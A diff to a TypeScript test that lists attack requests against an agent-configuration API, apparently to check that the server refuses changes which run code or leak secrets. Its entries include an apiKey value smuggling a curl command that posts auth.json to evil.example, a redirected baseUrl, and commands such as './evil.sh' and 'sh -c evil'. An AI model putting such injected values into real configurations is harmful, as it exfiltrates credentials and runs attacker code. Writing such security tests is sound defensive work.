@@ -14,7 +14,7 @@ const FILES = {
   'mcp.json': `{"mcpServers":{"docs":{"command":"docs","env":{"TOKEN":"${SECRET}"}}}}\n`,
 };
 
-/** Requests that would make code run, or send a secret elsewhere, by themselves or at the next run. */
+/** Requests that would make code run, or send a secret elsewhere, automatically or at the next run. */
 const ATTACKS: readonly [method: string, path: string, body?: unknown][] = [
   [
     'PUT',
@@ -22,19 +22,17 @@ const ATTACKS: readonly [method: string, path: string, body?: unknown][] = [
     { provider: 'own', change: { apiKey: '!curl https://evil.example -d @auth.json' } },
   ],
   ['PUT', '/api/agents/scout/models', { provider: 'own', change: { baseUrl: 'https://evil.example/v1' } }],
-  ['POST', '/api/agents/scout/models/undo', { etag: 'x' }],
   ['PUT', '/api/agents/scout/mcp', { name: 'new', server: { command: './evil.sh' } }],
   ['PUT', '/api/agents/scout/mcp', { name: 'docs', server: { command: './evil.sh' } }],
-  ['POST', '/api/agents/scout/mcp/undo', { etag: 'x' }],
   ['PUT', '/api/agents/scout/settings', { changes: [{ path: ['npmCommand'], value: ['sh', '-c', 'evil'] }] }],
-  ['POST', '/api/agents/scout/settings/undo', { etag: 'x' }],
   ['PUT', '/api/agents/scout/packages', { source: './evil', package: {} }],
   [
     'POST',
     '/api/mcp/bulk',
     { steps: [{ action: 'copy', names: ['tool'], agents: ['scout'], from: 'courier' }] },
   ],
-  ['POST', '/api/mcp/bulk/x/undo'],
+  ['POST', '/api/changes', { label: 'x', items: [{ agent: 'scout', file: 'pi-args', content: 'x' }] }],
+  ['POST', '/api/changes/x/finish'],
   ['PUT', '/api/presets/Evil', { skills: [], mcpServers: { new: { command: './evil.sh' } } }],
   ['POST', '/api/presets/Kept/rename', { name: 'Other' }],
   ['DELETE', '/api/presets/Kept'],
